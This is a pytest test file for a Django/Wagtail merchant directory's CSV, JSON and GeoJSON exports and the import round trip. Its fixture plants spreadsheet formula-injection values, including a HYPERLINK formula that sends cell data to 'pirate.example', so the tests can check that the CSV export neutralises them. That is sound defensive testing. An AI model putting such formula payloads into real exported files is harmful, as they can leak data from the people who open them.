"""Open data: ``/commerces/export.csv|json|geojson``, and the export → import round trip."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from wagtail.models import Revision

from merchants.exports import COLUMNS
from merchants.models import Category, MerchantPage

pytestmark = pytest.mark.django_db


def rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_csv_export_lists_published_merchants_with_the_import_columns(client):
    hidden = MerchantPage.objects.get(external_id="demo-002", locale__language_code="fr")
    hidden.editor_notes = "Appeler après 18 h, ne pas publier."
    hidden.save_revision().publish()
    MerchantPage.objects.get(external_id="demo-003", locale__language_code="fr").unpublish()

    response = client.get("/commerces/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="commerces.csv"'
    records = rows(response)
    assert list(records[0]) == COLUMNS
    ids = {record["external_id"] for record in records}
    assert len(ids) == MerchantPage.objects.live().filter(locale__language_code="fr").count()
    assert "demo-003" not in ids  # unpublished
    assert "ne pas publier" not in response.content.decode()  # internal notes
    quai = next(record for record in records if record["external_id"] == "demo-001")
    assert quai["category"] == "Boulangerie-pâtisserie"
    assert quai["commune"] == "07324"
    # As people read it: a spreadsheet neither computes "+33…" nor shows 33465710001.
    assert quai["phone"] == "04 65 71 00 01"
    assert quai["services"] == "call_collect;takeaway"


def test_exports_follow_the_directory_filters(client):
    records = rows(client.get("/commerces/export.csv?commune=tain-l-hermitage&service=delivery"))
    assert records and all(record["commune"] == "26347" for record in records)
    assert all("delivery" in record["services"] for record in records)


def test_json_and_geojson_exports(client):
    data = json.loads(client.get("/commerces/export.json").content)
    assert set(data[0]) == set(COLUMNS)
    # Data, not a spreadsheet: the stored international form.
    assert next(row for row in data if row["external_id"] == "demo-001")["phone"] == "+33465710001"
    response = client.get("/commerces/export.geojson?categorie=fromagerie")
    assert response["Content-Type"] == "application/geo+json; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    collection = json.loads(response.content)
    assert collection["type"] == "FeatureCollection"
    feature = collection["features"][0]
    longitude, latitude = feature["geometry"]["coordinates"]
    assert 44.95 < latitude < 45.25 and 4.5 < longitude < 5.1
    assert feature["properties"]["url"].startswith("http://testserver/commerces/")
    assert "latitude" not in feature["properties"]


def test_english_export_uses_english_category_names(client):
    records = rows(client.get("/en/shops/export.csv?categorie=bakery"))
    assert records and all("Bakery" in record["category"] for record in records)
    features = json.loads(client.get("/en/shops/export.geojson").content)["features"]
    # Not translated yet: the English directory points to the French profiles.
    # An untranslated shop's English view (merchants.english_view), not its French page.
    assert features[0]["properties"]["url"].startswith("http://testserver/en/shops/")


@pytest.mark.parametrize("url", ["/contact/export.csv", "/nulle-part/export.json", "/export.csv"])
def test_export_only_exists_beside_a_directory(client, url):
    assert client.get(url).status_code == 404


FORMULA_NAME = '=HYPERLINK("https://pirate.example/?"&A1,"Cliquez")'
FORMULA_DESCRIPTION = "-50 % sur tout le rayon\n=1+1"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture
def hostile_merchants(db):
    """Published merchants whose name, description, address and phone a spreadsheet
    would read as formulas (or as a number, for "+41…"). Forms and the import strip
    leading spaces, so stored values start with the character itself."""
    changes = {
        "demo-004": {"title": FORMULA_NAME, "description": FORMULA_DESCRIPTION},
        "demo-005": {"title": "@Home déco", "phone": "+41223456789", "street_address": "+2 rue"},
        "demo-006": {"title": "'Tis the season", "description": "=SUM(1;2)", "website": ""},
        "demo-007": {"title": "＝Fromages", "description": "@ la gare, face au marché"},
    }
    for external_id, values in changes.items():
        merchant = MerchantPage.objects.get(external_id=external_id, locale__language_code="fr")
        for name, value in values.items():
            setattr(merchant, name, value)
        merchant.save_revision().publish()
    return changes


def test_csv_export_never_starts_a_cell_with_a_formula(client, hostile_merchants):
    response = client.get("/commerces/export.csv")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    records = {record["external_id"]: record for record in rows(response)}
    assert records["demo-004"]["name"] == "'" + FORMULA_NAME
    assert records["demo-004"]["description"] == "'" + FORMULA_DESCRIPTION
    assert records["demo-005"]["name"] == "'@Home déco"
    assert records["demo-005"]["address"] == "'+2 rue"
    # A foreign number keeps its "+", as text; French ones read "04 …".
    assert records["demo-005"]["phone"] == "'+41 22 345 67 89"
    assert records["demo-006"]["name"] == "''Tis the season"
    assert records["demo-007"]["name"] == "'＝Fromages"
    # JSON is data: the values as stored.
    data = {
        row["external_id"]: row for row in json.loads(client.get("/commerces/export.json").content)
    }
    assert data["demo-004"]["name"] == FORMULA_NAME
    assert data["demo-005"]["phone"] == "+41223456789"


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_export_with_formulas_imports_back_unchanged(
    client, tmp_path, file_format, hostile_merchants
):
    test_export_then_import_changes_nothing(client, tmp_path, file_format)
    merchant = MerchantPage.objects.get(external_id="demo-004", locale__language_code="fr")
    assert (merchant.title, merchant.description) == (FORMULA_NAME, FORMULA_DESCRIPTION)
    swiss = MerchantPage.objects.get(external_id="demo-005", locale__language_code="fr")
    assert (swiss.title, swiss.phone, swiss.street_address) == (
        "@Home déco",
        "+41223456789",
        "+2 rue",
    )
    assert MerchantPage.objects.get(external_id="demo-006", locale__language_code="fr").title == (
        "'Tis the season"
    )


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_export_then_import_changes_nothing(client, tmp_path, file_format):
    path = tmp_path / f"export.{file_format}"
    path.write_bytes(client.get(f"/commerces/export.{file_format}").content)
    before = (Revision.objects.count(), list(MerchantPage.objects.values().order_by("pk")))
    out = io.StringIO()
    call_command("import_merchants", str(path), stdout=out)
    live = MerchantPage.objects.live().filter(locale__language_code="fr").count()
    assert f"0 commerces créés, 0 mis à jour, {live} inchangés" in out.getvalue()
    assert (Revision.objects.count(), list(MerchantPage.objects.values().order_by("pk"))) == before


def test_english_export_imports_back_without_new_categories(client, tmp_path):
    path = tmp_path / "shops.csv"
    path.write_bytes(client.get("/en/shops/export.csv").content)
    categories = Category.objects.count()
    out = io.StringIO()
    call_command("import_merchants", str(path), stdout=out)
    # English category names are recognised; only the ten merchants translated in the
    # demo differ (their English descriptions), nothing is new.
    assert "0 commerces créés, 10 mis à jour" in out.getvalue()
    assert Category.objects.count() == categories
